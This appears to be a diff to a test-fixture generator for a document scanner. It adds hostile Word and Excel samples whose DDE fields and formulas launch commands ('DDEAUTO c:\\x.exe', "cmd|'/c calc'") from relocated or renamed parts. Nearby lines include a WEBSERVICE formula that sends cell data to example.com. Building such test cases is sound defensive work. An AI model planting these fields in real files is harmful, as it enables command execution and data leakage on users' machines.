@@ -238,6 +238,15 @@ def _hostile_word():
     yield "dde-cat.docx", packed(word(field(" DD", "EAUTO", " c:\\\\x"))), ACTIVE
     simple = '<w:p><w:fldSimple w:instr="DDE cmd x"/></w:p>'
     yield "dde-gon.docx", packed(word(simple)), ACTIVE
+    for name, place in {
+        "dde-cho-khac.docx": "noi-khac/van-ban.xml",
+        "dde-ten-khac.docx": "word/van-ban.dat",
+    }.items():
+        whole = word(field("DDEAUTO c:\\\\x.exe"))
+        whole[place] = whole["word/document.xml"]
+        whole["word/document.xml"] = "<a/>"
+        whole["_rels/.rels"] = relation("officeDocument", place)
+        yield name, packed(whole), ACTIVE
     picture = field('INCLUDEPICTURE "http://example.com/a.png"')
     yield "anh-truong.docx", packed(word(picture)), EXTERNAL
     for name, start in {
@@ -272,6 +281,9 @@ def _hostile_excel():
     far = '<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>'
     yield "o-xa.xlsx", packed(excel(f"<sheetData>{far}</sheetData>")), flood
     yield "dde.xlsx", formula("cmd|'/c calc'!A0"), ACTIVE
+    sheet = f"<worksheet xmlns=\"{SHEET_SPACE}\"><f>cmd|'/c calc'!A0</f></worksheet>"
+    yield "dde-cho-khac.xlsx", packed(excel(**{"bang/so1.xml": sheet})), ACTIVE
+    yield "dde-ten-khac.xlsx", packed(excel(**{"xl/so1.dat": sheet})), ACTIVE
     yield "dde-2.xlsx", formula("+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), ACTIVE
     yield "goi-mang.xlsx", formula('WEBSERVICE("http://example.com/"&amp;A1)'), EXTERNAL
     name_of = f'<workbook xmlns="{SHEET_SPACE}"><definedName>cmd|x!A1</definedName>'
